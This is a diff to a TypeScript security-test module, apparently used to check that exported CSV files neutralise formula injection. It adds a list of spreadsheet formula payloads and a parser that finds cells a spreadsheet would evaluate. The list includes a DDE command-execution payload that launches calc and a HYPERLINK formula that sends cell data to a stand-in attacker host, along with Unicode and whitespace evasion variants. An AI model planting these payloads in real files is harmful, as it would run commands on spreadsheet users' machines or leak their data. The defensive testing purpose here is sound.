@@ -150,3 +150,40 @@ export const PAYLOADS: Payload[] = [...ELEMENTS, ...HANDLERS, ...BREAKOUTS, ...M
 );
 /** Those that leave something in a page which believes them, whatever its policy. */
 export const PLANTED = ELEMENTS.length + HANDLERS.length;
+
+/** What a spreadsheet calculates, or takes for a command, when a file of ours has a cell that begins with it. */
+export const FORMULAS = [
+  '=1+1',
+  `=cmd|' /C calc'!A0`,
+  '=HYPERLINK("http://attacker.example/?x="&A1,"go")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '|calc',
+  '%0A=1+1',
+  '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20SUM(1+1)',
+  '",=1+1,"',
+  'x\r\n=1+1',
+];
+
+/** Cells of a CSV file, cut as a spreadsheet cuts it, that would be calculated. */
+export function formulasIn(csv: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (const letter of `${csv.replace(/^\ufeff/, '').replaceAll('""', '\u0001')}\n`)
+    if (letter === '"') quoted = !quoted;
+    else if (!quoted && /[,;\t\r\n]/.test(letter)) {
+      cells.push(cell);
+      cell = '';
+    } else cell += letter;
+  return cells.filter(text => /^\s*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text));
+}
